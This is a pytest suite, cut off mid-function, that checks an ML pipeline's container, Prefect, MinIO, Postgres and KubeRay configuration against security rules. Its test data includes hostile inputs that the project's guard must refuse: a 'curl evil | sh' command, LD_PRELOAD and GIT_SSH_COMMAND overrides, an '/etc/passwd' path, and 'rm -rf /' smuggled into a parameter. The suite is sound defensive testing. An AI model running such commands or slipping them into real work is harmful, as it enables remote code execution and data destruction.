"""infra/ checked against the code without a container engine (none runs here): every file
parses, every command names a real CLI stage, flag and params key, every service another one
names exists, and no credential is written down. Then the security rules of
docs/security.md: what compose publishes and on which address, authentication on MLflow and
Prefect with every client configured, one S3 user per service scoped to its prefixes, one
Postgres role per service, which container sees which secret, the worker's gate on flow runs,
hardened Kubernetes containers without literal secrets, a build context that no key or .env
can enter, and pinned images and tools."""

from __future__ import annotations

import asyncio
import fnmatch
import functools
import importlib.util
import inspect
import json
import posixpath
import re
import shlex
import sys
from importlib import import_module
from pathlib import Path
from types import ModuleType
from typing import Any

import pytest
import yaml

from fusion.cli import build_parser
from fusion.params import load_params
from tests.conftest import PrefectServer

REPO = Path(__file__).resolve().parents[1]
INFRA = REPO / "infra"


def _yaml_docs(path: Path) -> list[dict]:
    return [d for d in yaml.safe_load_all(path.read_text()) if d]


def _check_fusion_command(command: str | list[str]) -> None:
    """A `fusion ...` command line parses with the CLI's own parser, and its --set keys
    load with the repository's params."""
    argv = shlex.split(command) if isinstance(command, str) else list(command)
    assert argv[0] == "fusion", argv
    parser, _ = build_parser()
    args = parser.parse_args(argv[1:])
    load_params(REPO / "params.yaml", list(args.overrides))


def test_dockerfile_copies_what_exists_and_matches_the_project():
    text = (INFRA / "Dockerfile").read_text()
    for line in re.findall(r"^COPY (?!--from)(.+)$", text, re.M):
        *sources, _dest = line.split()
        for source in sources:
            assert (REPO / source).exists(), f"Dockerfile copies missing {source}"
    base = re.search(r"^FROM python:(\d+\.\d+)", text, re.M)
    requires = re.search(r'requires-python = "([^"]+)"', (REPO / "pyproject.toml").read_text())
    assert base and requires and base.group(1) in requires.group(1)
    assert "uv sync --frozen" in text  # the image uses the committed lock
    assert "RAY_ENABLE_UV_RUN_RUNTIME_ENV=0" in text


def test_compose_services_are_wired_to_each_other():
    compose = yaml.safe_load((INFRA / "compose.yaml").read_text())
    services = compose["services"]
    assert {"minio", "postgres", "mlflow", "prefect-server", "prefect-worker", "ray-head",
            "ray-worker"} <= set(services)
    for name, service in services.items():
        for dep in service.get("depends_on", []):
            assert dep in services, f"{name} depends on unknown {dep}"
    # the worker is a client of every service; the others name only those they use
    env = services["prefect-worker"]["environment"]
    host = lambda url: re.match(r"\w+://([^:/]+)", url).group(1)  # noqa: E731
    for url in (env["MLFLOW_TRACKING_URI"], env["PREFECT_API_URL"], env["AWS_ENDPOINT_URL"]):
        assert host(url) in services, url
    assert env["RAY_ADDRESS"].split(":")[0] in services
    for name, service in services.items():
        for key in ("MLFLOW_TRACKING_URI", "AWS_ENDPOINT_URL", "MLFLOW_S3_ENDPOINT_URL"):
            if key in service.get("environment", {}):
                assert host(service["environment"][key]) in services, (name, key)
    mlflow_cmd = " ".join(services["mlflow"]["command"])
    assert "@postgres:5432/mlflow" in mlflow_cmd and "s3://" in mlflow_cmd
    assert "@postgres:5432/prefect" in services["prefect-server"]["environment"][
        "PREFECT_SERVER_DATABASE_CONNECTION_URL"]
    # the worker retries as the one of the loopback test (tests/test_flows.py) does
    worker_env = services["prefect-worker"]["environment"]
    client_env = PrefectServer("postgresql://x@h/prefect", REPO).client_env
    for key in ("PREFECT_CLIENT_RETRY_EXTRA_CODES", "PREFECT_CLIENT_MAX_RETRIES"):
        assert str(worker_env[key]) == client_env[key], key
    init = (INFRA / "postgres/init.sql").read_text()
    for db in ("mlflow", "prefect", "optuna"):
        assert f"CREATE DATABASE {db};" in init
    assert "--address=ray-head:6379" in services["ray-worker"]["command"]


def test_no_credentials_in_infra():
    """Every secret is a ${VAR} listed (without a value) in .env.example."""
    text = (INFRA / "compose.yaml").read_text()
    variables = set(re.findall(r"\$\{(\w+)", text))
    example = dict(line.split("=", 1) for line in (INFRA / ".env.example").read_text()
                   .splitlines() if line and not line.startswith("#"))
    assert variables == set(example) and not any(example.values())
    for path in INFRA.rglob("*"):
        if path.is_file():
            body = path.read_text()
            secret = r"(PASSWORD|SECRET[A-Z_]*)[ \t]*[:=][ \t]*[\"']?(?!\$)\w"
            assert not re.search(secret, body), path
            assert not re.search(r"://\w+:(?!\$\{)[^@/\s]+@", body), path


def test_kuberay_cluster_and_job():
    (cluster,) = _yaml_docs(INFRA / "k8s/raycluster.yaml")
    assert cluster["apiVersion"] == "ray.io/v1" and cluster["kind"] == "RayCluster"
    assert cluster["spec"]["headGroupSpec"]["template"]["spec"]["containers"]
    groups = cluster["spec"]["workerGroupSpecs"]
    assert any(g["replicas"] >= 2 for g in groups)
    lock = (REPO / "uv.lock").read_text()
    ray_version = re.search(r'name = "ray"\nversion = "([^"]+)"', lock).group(1)
    assert cluster["spec"]["rayVersion"] == ray_version  # the image's Ray, or workers refuse
    (job,) = _yaml_docs(INFRA / "k8s/rayjob-train.yaml")
    assert job["kind"] == "RayJob"
    assert job["spec"]["clusterSelector"]["ray.io/cluster"] == cluster["metadata"]["name"]
    _check_fusion_command(job["spec"]["entrypoint"])
    assert "train.data=s3://" in job["spec"]["entrypoint"]
    # token authentication (Ray's default under `ray start`): the cluster's secret, and
    # the same token in the job's submitter, as compose.yaml shares RAY_AUTH_TOKEN
    auth = cluster["spec"]["authOptions"]
    assert auth["mode"] == "token"
    (submitter,) = job["spec"]["submitterPodTemplate"]["spec"]["containers"]
    env = {e["name"]: e for e in submitter["env"]}
    assert env["RAY_AUTH_MODE"]["value"] == "token"
    assert env["RAY_AUTH_TOKEN"]["valueFrom"]["secretKeyRef"] == {
        "name": auth["secretName"], "key": "auth_token"}


def test_prefect_deployments_name_real_flows_and_parameters():
    config = yaml.safe_load((INFRA / "prefect/prefect.yaml").read_text())
    pools = set()
    for deployment in config["deployments"]:
        path, func = deployment["entrypoint"].split(":")
        assert (REPO / path).is_file()
        flow = getattr(import_module(path[:-3].replace("/", ".")), func)
        accepted = inspect.signature(flow.fn).parameters
        assert set(deployment.get("parameters", {})) <= set(accepted), deployment["name"]
        params_file = deployment.get("parameters", {}).get("params_file")
        if params_file:
            overrides = yaml.safe_load((REPO / params_file).read_text())
            sets = [f"{section}.{key}={yaml.safe_dump(value).strip()}"
                    for section, values in overrides.items() for key, value in values.items()]
            load_params(REPO / "params.yaml", sets)
        pools.add(deployment["work_pool"]["name"])
    assert {"fusion-process", "fusion-k8s"} <= pools
    compose = (INFRA / "compose.yaml").read_text()
    assert "--pool fusion-process" in compose


def test_kubernetes_flow_pods_carry_the_ray_token_and_the_s3_secret():
    """The fusion-k8s pool's base job template: every placeholder is a declared variable,
    and the flow container takes the RayCluster's token secret, the pipeline's S3 and MLflow
    secrets (its pods are Ray, S3 and MLflow clients; a deployment's `env` cannot reference
    secrets, and the template takes none)."""
    path = INFRA / "prefect/k8s-base-job-template.json"
    assert path.name in (INFRA / "prefect/prefect.yaml").read_text()
    template = json.loads(path.read_text())
    used = set(re.findall(r"\{\{ *(\w+) *\}\}", json.dumps(template["job_configuration"])))
    assert used <= set(template["variables"]["properties"])
    (container,) = template["job_configuration"]["job_manifest"]["spec"]["template"]["spec"][
        "containers"]
    env = {e["name"]: e for e in container["env"]}
    (cluster,) = _yaml_docs(INFRA / "k8s/raycluster.yaml")
    assert env["RAY_AUTH_MODE"]["value"] == "token"
    assert env["RAY_AUTH_TOKEN"]["valueFrom"]["secretKeyRef"] == {
        "name": cluster["spec"]["authOptions"]["secretName"], "key": "auth_token"}
    # S3 and MLflow clients, with the pipeline's own S3 user (the Ray pods have theirs)
    head = cluster["spec"]["headGroupSpec"]["template"]["spec"]["containers"][0]
    secrets = {ref["secretRef"]["name"] for ref in container["envFrom"]}
    assert secrets == {"fusion-s3-pipeline", "fusion-mlflow-pipeline"}
    assert {ref["secretRef"]["name"] for ref in head["envFrom"]} == {
        "fusion-s3-ray", "fusion-mlflow-pipeline"}
    assert env["MLFLOW_TRACKING_URI"]["value"].startswith("http://")
    assert env["RAY_ADDRESS"]["value"].startswith(cluster["metadata"]["name"] + "-head-svc.")


@pytest.mark.parametrize("path", sorted(p.relative_to(INFRA).as_posix()
                                        for p in INFRA.rglob("*.yaml")))
def test_every_yaml_file_parses(path):
    assert _yaml_docs(INFRA / path)


# --- security: compose ----------------------------------------------------------------------

BIND = "${FUSION_BIND:-127.0.0.1}"
# what a user must reach, and nothing else: MLflow's UI/API, Prefect's UI/API, MinIO's S3 API
# (DVC and S3 clients outside the stack); Postgres, the Ray GCS/dashboard publish nothing
PUBLISHED = {"mlflow": {5000}, "prefect-server": {4200}, "minio": {9000}, "ray-head": {8000}}
# who may see each variable of .env.example (the threat model of docs/security.md)
SEEN_BY = {
    "MINIO_ROOT_USER": {"minio", "buckets"},
    "MINIO_ROOT_PASSWORD": {"minio", "buckets"},
    "POSTGRES_PASSWORD": {"postgres"},
    "POSTGRES_MLFLOW_PASSWORD": {"postgres", "mlflow"},
    "POSTGRES_PREFECT_PASSWORD": {"postgres", "prefect-server"},
    "POSTGRES_OPTUNA_PASSWORD": {"postgres", "prefect-worker"},
    "S3_MLFLOW_ACCESS_KEY": {"buckets", "mlflow"},
    "S3_MLFLOW_SECRET_KEY": {"buckets", "mlflow"},
    "S3_PIPELINE_ACCESS_KEY": {"buckets", "prefect-worker"},
    "S3_PIPELINE_SECRET_KEY": {"buckets", "prefect-worker"},
    "S3_RAY_ACCESS_KEY": {"buckets", "ray-head", "ray-worker"},
    "S3_RAY_SECRET_KEY": {"buckets", "ray-head", "ray-worker"},
    "MLFLOW_ADMIN_USERNAME": {"mlflow", "mlflow-users"},
    "MLFLOW_ADMIN_PASSWORD": {"mlflow", "mlflow-users"},
    "MLFLOW_FLASK_SECRET_KEY": {"mlflow"},
    "MLFLOW_PIPELINE_USERNAME": {"mlflow-users", "prefect-worker", "ray-head", "ray-worker",
                                 "serve"},
    "MLFLOW_PIPELINE_PASSWORD": {"mlflow-users", "prefect-worker", "ray-head", "ray-worker",
                                 "serve"},
    "PREFECT_AUTH_STRING": {"prefect-server", "prefect-worker"},
    "RAY_AUTH_TOKEN": {"prefect-worker", "ray-head", "ray-worker", "serve"},
    "FUSION_GIT_URL": {"prefect-worker"},
    "FUSION_GIT_BRANCH": {"prefect-worker"},
}
OPTIONAL = {"FUSION_BIND", "MLFLOW_PUBLIC_HOST"}  # `${VAR:-default}`, not secrets
# each service's S3 user (compose variable prefix, policy file of infra/minio/policies)
S3_USER = {"mlflow": "MLFLOW", "prefect-worker": "PIPELINE", "ray-head": "RAY",
           "ray-worker": "RAY"}
PROJECT_IMAGE = "fusion-pipeline"


def _compose() -> dict:
    return yaml.safe_load((INFRA / "compose.yaml").read_text())


def _strings(node: Any):
    """Every string in a parsed YAML/JSON tree (keys and values)."""
    if isinstance(node, str):
        yield node
    elif isinstance(node, dict):
        for key, value in node.items():
            yield from _strings(key)
            yield from _strings(value)
    elif isinstance(node, list):
        for item in node:
            yield from _strings(item)


def _variables(node: Any) -> set[str]:
    return {v for s in _strings(node) for v in re.findall(r"\$\{(\w+)", s)}


def _var(value: str) -> str:
    """The variable a `${VAR...}` value names."""
    match = re.fullmatch(r"\$\{(\w+)(:[?-][^}]*)?\}", value)
    assert match, value
    return match.group(1)


def test_compose_publishes_only_what_users_reach_on_the_bind_address():
    services = _compose()["services"]
    published = {}
    for name, service in services.items():
        assert "expose" not in service and service.get("network_mode") != "host", name
        for port in service.get("ports", []):
            assert isinstance(port, str), (name, port)  # short syntax, the address explicit
            bind, host_port, container_port = port.rsplit(":", 2)
            assert bind == BIND, (name, port)  # 127.0.0.1 unless FUSION_BIND says otherwise
            assert host_port == container_port, (name, port)
            published.setdefault(name, set()).add(int(host_port))
    # (inside its container a server listens on every interface, for the other containers;
    # the address a port is published on decides who reaches it from outside)
    assert published == PUBLISHED


def test_each_secret_reaches_only_the_services_that_need_it():
    """The variables of .env.example are read by exactly the services of SEEN_BY; a secret
    is required (`${VAR:?...}`: compose refuses to start while it is empty)."""
    compose = _compose()
    example = [line.split("=", 1)[0] for line in (INFRA / ".env.example").read_text()
               .splitlines() if line and not line.startswith("#")]
    assert set(example) == set(SEEN_BY) | OPTIONAL
    seen: dict[str, set[str]] = {}
    for name, service in compose["services"].items():
        for var in _variables(service):
            seen.setdefault(var, set()).add(name)
    for var, services in SEEN_BY.items():
        assert seen.get(var) == services, var
    text = (INFRA / "compose.yaml").read_text()
    for var in SEEN_BY:
        uses = re.findall(r"\$\{" + var + r"(\W[^}]*)?\}", text)
        assert uses and all(use.startswith(":?") for use in uses), var
    for var in OPTIONAL:
        assert all(use.startswith(":-") for use in re.findall(r"\$\{" + var + r"(\W[^}]*)?\}",
                                                               text)), var


def test_project_containers_run_without_capabilities_or_privilege_escalation():
    services = _compose()["services"]
    for name, service in services.items():
        assert not service.get("privileged"), name
        volumes = " ".join(str(v) for v in service.get("volumes", []))
        assert "docker.sock" not in volumes, name
        if service["image"].startswith(PROJECT_IMAGE + ":"):
            assert service["cap_drop"] == ["ALL"], name
            assert "no-new-privileges:true" in service["security_opt"], name
    dockerfile = (INFRA / "Dockerfile").read_text()
    assert re.search(r"^USER 1000$", dockerfile, re.M)  # numeric: runAsNonRoot can verify it
    assert "useradd --create-home --uid 1000" in dockerfile
    assert "chown -R fusion /app" not in dockerfile  # the code stays root's, read-only


@functools.cache
def _mlflow_module(relative: str) -> ModuleType:
    """A module file of the installed mlflow package, loaded on its own."""
    (root,) = importlib.util.find_spec("mlflow").submodule_search_locations
    spec = importlib.util.spec_from_file_location(
        "fusion_mlflow_" + relative.replace("/", "_")[:-3], Path(root) / relative)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def test_mlflow_requires_a_user_and_its_clients_have_one():
    import importlib.metadata

    import mlflow.environment_variables as mlflow_env

    # two modules of mlflow.server, read without importing the server
    auth_config = _mlflow_module("server/auth/config.py")
    is_allowed_host_header = _mlflow_module("server/security_utils.py").is_allowed_host_header
    services = _compose()["services"]
    mlflow = services["mlflow"]
    command = mlflow["command"]
    assert "--app-name=basic-auth" in command
    env = mlflow["environment"]
    # the auth config comes from the image (COPY infra/mlflow) and holds no credential
    config_path = env["MLFLOW_AUTH_CONFIG_PATH"]
    assert config_path.startswith("/app/infra/mlflow/")
    assert "COPY infra/mlflow ./infra/mlflow" in (INFRA / "Dockerfile").read_text()
    ini = REPO / config_path.removeprefix("/app/")
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("MLFLOW_AUTH_CONFIG_PATH", str(ini))
        mp.delenv("MLFLOW_AUTH_ADMIN_USERNAME", raising=False)
        mp.delenv("MLFLOW_AUTH_ADMIN_PASSWORD", raising=False)
        parsed = auth_config.read_auth_config()
    assert parsed.default_permission == "READ"  # people read; only owners edit
    assert parsed.admin_password is None and parsed.admin_username is None  # from the env
    db_dir = posixpath.dirname(parsed.database_uri.removeprefix("sqlite:///"))
    assert f"mlflow-auth:{db_dir}" in mlflow["volumes"]  # users survive a restart
    assert f"mkdir -p {db_dir} && chown fusion {db_dir}" in (INFRA / "Dockerfile").read_text()
    assert _var(env["MLFLOW_AUTH_ADMIN_USERNAME"]) == "MLFLOW_ADMIN_USERNAME"
    assert _var(env["MLFLOW_AUTH_ADMIN_PASSWORD"]) == "MLFLOW_ADMIN_PASSWORD"
    assert _var(env["MLFLOW_FLASK_SERVER_SECRET_KEY"]) == "MLFLOW_FLASK_SECRET_KEY"
    # the basic-auth app's extra comes with the project: the image's `uv sync` installs it
    wanted = {re.split(r"[<>=!~; ]", r)[0].lower() for r in importlib.metadata.requires("mlflow")
              if 'extra == "auth"' in r}
    lock = (REPO / "uv.lock").read_text()
    assert '"mlflow[auth]' in (REPO / "pyproject.toml").read_text()
    assert wanted and all(f'name = "{name}"' in lock for name in wanted)
    # its clients in the stack: the pipeline's user (created by `mlflow-users`), not admin
    allowed = next(a for a in command if a.startswith("--allowed-hosts=")).split("=", 1)[1]
    clients = {n: s["environment"] for n, s in services.items()
               if "MLFLOW_TRACKING_URI" in s.get("environment", {})}
    assert {"prefect-worker", "ray-head", "ray-worker", "mlflow-users"} <= set(clients)
    for name, client_env in clients.items():
        user = _var(client_env["MLFLOW_TRACKING_USERNAME"])
        password = _var(client_env["MLFLOW_TRACKING_PASSWORD"])
        expected = "ADMIN" if name == "mlflow-users" else "PIPELINE"
        assert (user, password) == (f"MLFLOW_{expected}_USERNAME",
                                    f"MLFLOW_{expected}_PASSWORD"), name
        # the server's Host-header check (MLflow 3) lets the stack's address through
        netloc = re.match(r"http://([^/]+)", client_env["MLFLOW_TRACKING_URI"]).group(1)
        assert is_allowed_host_header(allowed.split(","), netloc), (name, netloc)
    assert services["mlflow-users"]["depends_on"]["mlflow"]["condition"] == "service_healthy"
    assert "mlflow-users" in services["prefect-worker"]["depends_on"]
    # every MLFLOW_* variable set is one MLflow reads (a typo would leave auth off)
    for service in services.values():
        for key in service.get("environment", {}):
            if key.startswith("MLFLOW_"):
                assert getattr(mlflow_env, key).name == key


def test_prefect_requires_the_auth_string_and_its_clients_send_it():
    import prefect.settings

    services = _compose()["services"]
    server_env = services["prefect-server"]["environment"]
    assert _var(server_env["PREFECT_SERVER_API_AUTH_STRING"]) == "PREFECT_AUTH_STRING"
    clients = [n for n, s in services.items() if "PREFECT_API_URL" in s.get("environment", {})]
    assert clients == ["prefect-worker"]
    for name in clients:
        env = services[name]["environment"]
        assert _var(env["PREFECT_API_AUTH_STRING"]) == "PREFECT_AUTH_STRING", name
    for service in services.values():
        for key in service.get("environment", {}):
            if key.startswith("PREFECT_"):
                assert hasattr(prefect.settings, key), key  # a setting Prefect knows


def test_postgres_has_one_role_per_service():
    services = _compose()["services"]
    urls = {
        "mlflow": next(a for a in services["mlflow"]["command"]
                       if a.startswith("--backend-store-uri=")).split("=", 1)[1],
        "prefect": services["prefect-server"]["environment"][
            "PREFECT_SERVER_DATABASE_CONNECTION_URL"],
        "optuna": services["prefect-worker"]["environment"]["OPTUNA_STORAGE"],
    }
    roles = (INFRA / "postgres/roles.sh").read_text()
    for db, url in urls.items():
        user, password, database = re.match(r"[\w+]+://(\w+):\$\{(\w+)[^}]*\}@postgres:5432/(\w+)$",
                                            url).groups()
        assert (user, database, password) == (db, db, f"POSTGRES_{db.upper()}_PASSWORD"), url
        assert f"ALTER ROLE {db} PASSWORD %L" in roles and f"ALTER DATABASE {db} OWNER TO {db}" \
            in roles
        assert f'-v {db}_pw="${password}"' in roles
    assert "REVOKE ALL ON DATABASE mlflow, prefect, optuna FROM PUBLIC" in roles
    mounts = services["postgres"]["volumes"]
    order = [m.split(":")[1] for m in mounts if "docker-entrypoint-initdb.d" in m]
    assert order == sorted(order) and order[0].endswith("-databases.sql") \
        and order[1].endswith("-roles.sh")  # databases first, then their owners


# --- security: S3 users and policies ------------------------------------------------------

def _policy_allows(policy: dict, action: str, resource: str) -> bool:
    """IAM-style evaluation enough for these documents: an Allow whose Action and Resource
    patterns match (no Deny, no Condition used)."""
    allowed = False
    for statement in policy["Statement"]:
        assert "Condition" not in statement and statement["Effect"] in ("Allow", "Deny")
        actions = statement["Action"] if isinstance(statement["Action"], list) else [
            statement["Action"]]
        resources = statement["Resource"] if isinstance(statement["Resource"], list) else [
            statement["Resource"]]
        if any(fnmatch.fnmatchcase(action, a) for a in actions) and any(
                fnmatch.fnmatchcase(resource, r) for r in resources):
            if statement["Effect"] == "Deny":
                return False
            allowed = True
    return allowed


def test_each_service_has_its_own_s3_user_scoped_to_its_prefixes():
    compose = _compose()
    services = compose["services"]
    # who uses which prefix, from the configuration itself
    production = yaml.safe_load((INFRA / "params.production.yaml").read_text())
    bucket, prepared = production["train"]["data"].removeprefix("s3://").split("/", 1)
    ray_bucket, ray_prefix = production["ray"]["storage_path"].removeprefix("s3://").split("/", 1)
    artifacts = next(a for a in services["mlflow"]["command"]
                     if a.startswith("--artifacts-destination="))
    ml_bucket, mlflow_prefix = artifacts.split("=s3://", 1)[1].split("/", 1)
    assert bucket == ray_bucket == ml_bucket == "fusion"
    access = {  # the training driver publishes the shards; the nodes only read them
        "mlflow": {mlflow_prefix: "rw"},
        "pipeline": {"dvc": "rw", prepared: "rw", ray_prefix: "rw"},
        "ray": {prepared: "r", ray_prefix: "rw"},
    }
    setup = (INFRA / "minio/setup.sh").read_text()
    policies = {}
    for path in sorted((INFRA / "minio/policies").glob("*.json")):
        assert len(path.read_text()) <= 2048  # MinIO's limit for a policy document
        policies[path.stem] = json.loads(path.read_text())
        name = path.stem.upper()
        assert re.search(rf'^user {path.stem} "\$S3_{name}_ACCESS_KEY" "\$S3_{name}_SECRET_KEY"',
                         setup, re.M), path.stem
    assert set(policies) == set(access)
    assert "mc mb --ignore-existing s3/fusion" in setup
    for user, policy in policies.items():
        actions = {a for s in policy["Statement"] for a in s["Action"]}
        assert not any("*" in a or a.startswith("admin:") for a in actions), user
        for prefix in ("dvc", "prepared", "ray", "mlflow", "elsewhere"):
            mode = access[user].get(prefix, "")
            for key in (f"{prefix}/a/b.parquet", prefix):
                res = f"arn:aws:s3:::{bucket}/{key}"
                assert _policy_allows(policy, "s3:GetObject", res) == ("r" in mode), (user, key)
                for write in ("s3:PutObject", "s3:DeleteObject"):
                    assert _policy_allows(policy, write, res) == ("w" in mode), (user, write, key)
            assert not _policy_allows(policy, "s3:GetObject", f"arn:aws:s3:::other/{prefix}/x")
        bucket_arn = f"arn:aws:s3:::{bucket}"
        assert _policy_allows(policy, "s3:ListBucket", bucket_arn)  # key names, for HeadBucket
        for forbidden in ("s3:DeleteBucket", "s3:PutBucketPolicy", "s3:CreateBucket",
                          "s3:PutBucketVersioning", "s3:PutLifecycleConfiguration"):
            assert not _policy_allows(policy, forbidden, bucket_arn), (user, forbidden)
    # the services use their own user, never the root keys
    for name, service in services.items():
        env = service.get("environment", {})
        if name in ("minio", "buckets"):
            continue
        assert not any("MINIO_ROOT" in v for v in _variables(service)), name
        if "AWS_ACCESS_KEY_ID" in env:
            assert name in S3_USER, name
        if name in S3_USER:
            user = S3_USER[name]
            assert _var(env["AWS_ACCESS_KEY_ID"]) == f"S3_{user}_ACCESS_KEY", name
            assert _var(env["AWS_SECRET_ACCESS_KEY"]) == f"S3_{user}_SECRET_KEY", name
    assert services["buckets"]["entrypoint"][-1] == "/etc/fusion-minio/setup.sh"
    assert "./minio:/etc/fusion-minio:ro" in services["buckets"]["volumes"]


# --- security: the Prefect worker runs only the project's deployments ---------------------

GUARD = "/opt/venv/bin/python /app/infra/prefect/guard.py"


@functools.cache
def _infra_module(relative: str) -> ModuleType:
    """A script of infra/ imported once (worker.py registers a Prefect worker class)."""
    name = "fusion_infra_" + Path(relative).stem
    spec = importlib.util.spec_from_file_location(name, INFRA / relative)
    module = importlib.util.module_from_spec(spec)
    sys.modules[name] = module
    spec.loader.exec_module(module)
    return module


class _NoClient:
    """A Prefect client that must not be used (templates without block references)."""

    def __getattr__(self, name: str):
        raise AssertionError(f"Prefect client used: {name}")


def test_process_pool_template_fixes_the_command_and_ignores_job_variables():
    from prefect.workers.process import ProcessJobConfiguration

    template = json.loads((INFRA / "prefect/process-base-job-template.json").read_text())
    config = template["job_configuration"]
    assert config["command"] == GUARD
    assert not {"env", "working_dir"} & set(config)
    used = set(re.findall(r"\{\{ *(\w+) *\}\}", json.dumps(config)))
    assert used == set(template["variables"]["properties"]) == {"name", "labels",
                                                                "stream_output"}
    assert template["variables"]["additionalProperties"] is False
    assert (REPO / GUARD.split()[-1].removeprefix("/app/")).is_file()
    # what a deployment or a flow run could ask for changes nothing
    hostile = {"command": "sh -c 'curl evil | sh'", "working_dir": "/",
               "env": {"GIT_SSH_COMMAND": "sh -c evil", "LD_PRELOAD": "/tmp/x.so"}}
    configuration = asyncio.run(ProcessJobConfiguration.from_template_and_values(
        template, hostile, client=_NoClient()))
    assert configuration.command == GUARD
    assert configuration.env == {} and configuration.working_dir is None
    # compose resets the pool to this file at every start, and its worker pins it
    command = " ".join(_compose()["services"]["prefect-worker"]["command"])
    assert ("--base-job-template infra/prefect/process-base-job-template.json" in command)
    assert "exec python infra/prefect/worker.py --pool fusion-process" in command
    assert "prefect worker start" not in command


def test_worker_uses_its_own_template_whatever_the_server_holds():
    from prefect.client.schemas.objects import WorkPool
    from prefect.utilities.dispatch import lookup_type
    from prefect.workers.base import BaseWorker
    from prefect.workers.process import ProcessWorker

    worker_module = _infra_module("prefect/worker.py")
    tampered = ProcessWorker.get_default_base_job_template()
    tampered["job_configuration"]["command"] = "sh -c 'curl evil | sh'"
    worker = worker_module.PinnedProcessWorker(work_pool_name="fusion-process")
    assert worker.type == "process"
    worker._work_pool = WorkPool(name="fusion-process", type="process",
                                 base_job_template=tampered)
    assert worker.work_pool.base_job_template == worker_module.TEMPLATE
    assert worker.work_pool.base_job_template["job_configuration"]["command"] == GUARD
    # Prefect's own "process" worker stays what `prefect worker start` would find
    assert lookup_type(BaseWorker, "process") is ProcessWorker
    # every path of the worker that builds a flow run's configuration reads `work_pool`
    source = inspect.getsource(BaseWorker)
    assert "copy.deepcopy(self.work_pool)" in source
    assert "base_job_template=work_pool.base_job_template" in source


def test_guard_allows_the_projects_deployments_and_nothing_else():
    guard = _infra_module("prefect/guard.py")
    config = yaml.safe_load((INFRA / "prefect/prefect.yaml").read_text())
    for deployment in config["deployments"]:
        params = deployment.get("parameters", {})
        entry, pool = deployment["entrypoint"], deployment["work_pool"]["name"]
        assert guard.check(deployment["name"], entry, pool, params) == entry
        # every parameter of the flow has a rule its default passes (else runs are refused)
        path, func = entry.split(":")
        flow = getattr(import_module(path[:-3].replace("/", ".")), func)
        for name, parameter in inspect.signature(flow.fn).parameters.items():
            guard.check(deployment["name"], entry, pool, {name: parameter.default})
    scheduled = next(d for d in config["deployments"] if d["name"] == "scheduled")
    entry, pool = scheduled["entrypoint"], scheduled["work_pool"]["name"]
    guard.check("scheduled", entry, pool, {"profile": "quality,gpu", "search_first": True,
                                           "push": False, "params_file": "params.yaml"})
    refused = [
        ("evil", entry, pool, {}),  # a deployment someone else created
        ("scheduled", "flows/evil.py:evil", pool, {}),  # the same name, other code
        ("scheduled", entry, "other-pool", {}),
        ("scheduled", entry, pool, {"repo": "/tmp/attacker"}),
        ("scheduled", entry, pool, {"params_file": "/etc/passwd"}),
        ("scheduled", entry, pool, {"params_file": "../params.yaml"}),
        ("scheduled", entry, pool, {"tracking_uri": "http://attacker:5000"}),
        ("scheduled", entry, pool, {"ray_address": "attacker:6379"}),
        ("scheduled", entry, pool, {"profile": "../../tmp/x"}),
        ("scheduled", entry, pool, {"search_first": "yes"}),
        ("scheduled", entry, pool, {"unknown": 1}),
        ("on-demand", "flows/search.py:search", "fusion-process", {"trials": 10**9}),
        ("on-demand", "flows/search.py:search", "fusion-process", {"trials": True}),
        ("on-demand", "flows/search.py:search", "fusion-process", {"study": "a b; rm -rf /"}),
    ]
    for case in refused:
        with pytest.raises(guard.Refused):
            guard.check(*case)
    # the clone the gate makes is the pull step prefect.yaml declares (not the server's)
    (pull,) = config["pull"]
    step = pull["prefect.deployments.steps.git_clone"]
    assert (step["repository"], step["branch"]) == ("{{ $FUSION_GIT_URL }}",
                                                    "{{ $FUSION_GIT_BRANCH }}")
    source = inspect.getsource(guard.clone)
    assert 'os.environ.get("FUSION_GIT_URL")' in source
    assert 'os.environ.get("FUSION_GIT_BRANCH")' in source


def test_kubernetes_pool_template_fixes_image_command_and_namespace():
    template = json.loads((INFRA / "prefect/k8s-base-job-template.json").read_text())
    config = template["job_configuration"]
    assert config["command"] == GUARD and config["namespace"] == "fusion"
    assert "env" not in config and config["cluster_config"] is None
    manifest = config["job_manifest"]
    assert manifest["metadata"]["namespace"] == "fusion"
    (container,) = manifest["spec"]["template"]["spec"]["containers"]
    assert container["args"] == GUARD.split()
    assert container["image"] == f"{PROJECT_IMAGE}:{_project_version()}"
    used = set(re.findall(r"\{\{ *(\w+) *\}\}", json.dumps(config)))
    assert not used & {"command", "env", "image", "namespace", "service_account_name",
                       "cluster_config"}
    assert template["variables"]["additionalProperties"] is False
    config_text = yaml.safe_load((INFRA / "prefect/prefect.yaml").read_text())
    k8s = next(d for d in config_text["deployments"] if d["work_pool"]["name"] == "fusion-k8s")
    assert set(k8s["work_pool"].get("job_variables", {})) <= set(
        template["variables"]["properties"])


def test_kubernetes_pool_template_ignores_hostile_job_variables():
    """With prefect-kubernetes installed (the Kubernetes worker's package, not a project
    dependency: skipped here otherwise), what a deployment or run asks for changes nothing."""
    pytest.importorskip("prefect_kubernetes")
    import uuid

    from prefect.client.schemas.objects import FlowRun
    from prefect_kubernetes.worker import KubernetesWorkerJobConfiguration

    template = json.loads((INFRA / "prefect/k8s-base-job-template.json").read_text())
    hostile = {"image": "attacker/evil:1", "command": "sh -c evil", "namespace": "kube-system",
               "env": {"GIT_SSH_COMMAND": "sh -c evil"}, "service_account_name": "admin"}
    config = asyncio.run(KubernetesWorkerJobConfiguration.from_template_and_values(
        template, hostile, client=_NoClient()))
    config.prepare_for_flow_run(FlowRun(id=uuid.uuid4(), flow_id=uuid.uuid4(), name="run"))
    pod = config.job_manifest["spec"]["template"]["spec"]
    (container,) = pod["containers"]
    assert config.namespace == config.job_manifest["metadata"]["namespace"] == "fusion"
    assert container["args"] == GUARD.split() and "command" not in container
    assert container["image"] == f"{PROJECT_IMAGE}:{_project_version()}"
    assert "GIT_SSH_COMMAND" not in {e["name"] for e in container["env"]}
    assert "serviceAccountName" not in pod


# --- security: Kubernetes ------------------------------------------------------------------

def _k8s_pods() -> list[tuple[str, dict]]:
    """(where, pod spec) of every pod the Kubernetes files define."""
    pods = []
    (cluster,) = _yaml_docs(INFRA / "k8s/raycluster.yaml")
    pods.append(("raycluster head", cluster["spec"]["headGroupSpec"]["template"]["spec"]))
    for group in cluster["spec"]["workerGroupSpecs"]:
        pods.append((f"raycluster {group['groupName']}", group["template"]["spec"]))
    (job,) = _yaml_docs(INFRA / "k8s/rayjob-train.yaml")
